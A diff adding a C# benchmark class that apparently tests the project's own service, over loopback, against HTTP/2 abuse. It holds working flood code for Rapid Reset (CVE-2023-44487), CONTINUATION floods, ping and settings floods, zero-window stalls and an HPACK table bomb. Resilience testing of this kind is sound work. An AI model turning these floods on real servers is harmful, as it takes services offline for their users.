@@ -1,0 +1,187 @@
+using System.Buffers.Binary;
+using System.Diagnostics;
+using System.Globalization;
+using System.Net;
+using System.Net.Sockets;
+using System.Text;
+
+namespace LossService.Benchmarks.Abuse;
+
+/// <summary>Writes frames of HTTP/2 (RFC 9113) that a decent client would not: one connection after the other, until it is
+/// told to stop.</summary>
+internal sealed class Http2Flood(int port, Http2Flood.Kind kind)
+{
+    private const byte Data = 0, Headers = 1, Reset = 3, Settings = 4, Ping = 6, GoAway = 7, Continuation = 9;
+    private const byte EndStream = 1, EndHeaders = 4;
+    private const int FramesPerSend = 64;
+
+    // Method, scheme and path of the static table, and the path and host as literals that are not indexed (RFC 7541).
+    private static readonly byte[] Get =
+        [0x82, 0x86, 0x04, (byte)"/v1/info".Length, .. "/v1/info"u8, 0x01, 1, (byte)'x'];
+
+    private int _stream;
+
+    /// <summary>What it does.</summary>
+    internal enum Kind
+    {
+        /// <summary>Requests that are taken back at once (CVE-2023-44487).</summary>
+        RapidReset,
+
+        /// <summary>Headers that never end (CVE-2024-27983 and others).</summary>
+        Continuation,
+
+        /// <summary>Pings, each of which has to be answered.</summary>
+        Ping,
+
+        /// <summary>Settings, each of which has to be acknowledged.</summary>
+        Settings,
+
+        /// <summary>A hundred requests whose answers are never taken.</summary>
+        ZeroWindow,
+
+        /// <summary>A long header in the table, pointed at again and again.</summary>
+        TableBomb,
+
+        /// <summary>Frames of data without any.</summary>
+        EmptyData,
+    }
+
+    /// <summary>How many frames it sent.</summary>
+    public long Frames { get; private set; }
+
+    /// <summary>How many connections the server ended.</summary>
+    public int Ended { get; private set; }
+
+    /// <summary>The code that the server last said goodbye with; null where it said none.</summary>
+    public int? Goodbye { get; private set; }
+
+    /// <summary>Runs until it is cancelled.</summary>
+    public void Run(CancellationToken stop)
+    {
+        while (!stop.IsCancellationRequested)
+        {
+            using var socket = new Socket(SocketType.Stream, ProtocolType.Tcp) { NoDelay = true, SendTimeout = 1000 };
+            try
+            {
+                socket.Connect(IPAddress.Loopback, port);
+                Flood(socket, stop);
+            }
+            catch (SocketException)
+            {
+                // Ended by the server: on to the next connection.
+            }
+
+            if (!stop.IsCancellationRequested)
+            {
+                Ended++;
+            }
+        }
+    }
+
+    private void Flood(Socket socket, CancellationToken stop)
+    {
+        _stream = -1;
+        bool takesNothing = kind == Kind.ZeroWindow;
+        byte[] window = takesNothing ? [0, 4, 0, 0, 0, 0] : []; // SETTINGS_INITIAL_WINDOW_SIZE = 0
+        socket.Send([.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, window)]);
+        using var over = CancellationTokenSource.CreateLinkedTokenSource(stop);
+        Task listening = Task.Run(() => Listen(socket), CancellationToken.None);
+        if (kind is Kind.Continuation or Kind.EmptyData)
+        {
+            bool isData = kind == Kind.EmptyData;
+            socket.Send(Frame(Headers, isData ? EndHeaders : (byte)0, _stream = 1, isData ? [0x83, .. Get[1..]] : Get));
+        }
+
+        if (kind == Kind.TableBomb)
+        {
+            // A literal that enters the table: name and value; from then on one byte stands for 3,000.
+            socket.Send(Frame(Headers, EndStream | EndHeaders, _stream = 1, [.. Get, 0x40, 1, (byte)'a', 0x7F, .. Varint(3000 - 127), .. new byte[3000].Select(_ => (byte)'x')]));
+        }
+
+        int requests = 0;
+        while (!stop.IsCancellationRequested && !listening.IsCompleted)
+        {
+            if (takesNothing && requests++ >= 100 / FramesPerSend)
+            {
+                Thread.Sleep(20); // all streams are taken; now it only stays
+                continue;
+            }
+
+            byte[] frames = [.. Enumerable.Range(0, FramesPerSend).SelectMany(_ => Next())];
+            for (int sent = 0; sent < frames.Length;)
+            {
+                sent += socket.Send(frames.AsSpan(sent));
+            }
+
+            Frames += FramesPerSend;
+        }
+    }
+
+    private byte[] Next() => kind switch
+    {
+        Kind.RapidReset => [.. Frame(Headers, EndStream | EndHeaders, _stream += 2, Get), .. Frame(Reset, 0, _stream, [0, 0, 0, 8])],
+        Kind.Continuation => Frame(Continuation, 0, 1, [0x00, 1, (byte)'a', 1, (byte)'b']),
+        Kind.Ping => Frame(Ping, 0, 0, new byte[8]),
+        Kind.Settings => Frame(Settings, 0, 0, [0, 4, 0, 1, 0, 0]),
+        Kind.TableBomb => Frame(Headers, EndStream | EndHeaders, _stream += 2, [.. Get, .. Enumerable.Repeat((byte)0xBE, 8)]),
+        Kind.EmptyData => Frame(Data, 0, 1, []),
+        _ => Frame(Headers, EndStream | EndHeaders, _stream += 2, Get),
+    };
+
+    private void Listen(Socket socket)
+    {
+        byte[] buffer = new byte[1 << 16];
+        try
+        {
+            int count;
+            do
+            {
+                count = socket.Receive(buffer);
+                Note(buffer.AsSpan(0, count));
+            }
+            while (count > 0);
+        }
+        catch (SocketException)
+        {
+            // The end of it.
+        }
+        catch (ObjectDisposedException)
+        {
+            // Ours.
+        }
+    }
+
+    // A goodbye is the last thing said, and small: it is taken where it ends what was received.
+    private void Note(ReadOnlySpan<byte> received)
+    {
+        const int Length = 17;
+        if (received.Length >= Length && received[^Length..] is [0, 0, 8, GoAway, ..] frame)
+        {
+            Goodbye = BinaryPrimitives.ReadInt32BigEndian(frame[13..]);
+        }
+    }
+
+    private static byte[] Frame(byte type, byte flags, int stream, ReadOnlySpan<byte> payload)
+    {
+        byte[] frame = new byte[9 + payload.Length];
+        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
+        (frame[3], frame[4]) = (type, flags);
+        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
+        payload.CopyTo(frame.AsSpan(9));
+        return frame;
+    }
+
+    private static IEnumerable<byte> Varint(int value)
+    {
+        for (; value >= 128; value >>= 7)
+        {
+            yield return (byte)(value | 128);
+        }
+
+        yield return (byte)value;
+    }
+
+    /// <summary>What became of it, in a few words.</summary>
+    public override string ToString() => string.Create(
+        CultureInfo.InvariantCulture, $"{Frames:N0} frames, {Ended:N0} connections ended, goodbye {(Goodbye is { } code ? $"0x{code:x}" : "none")}");
+}
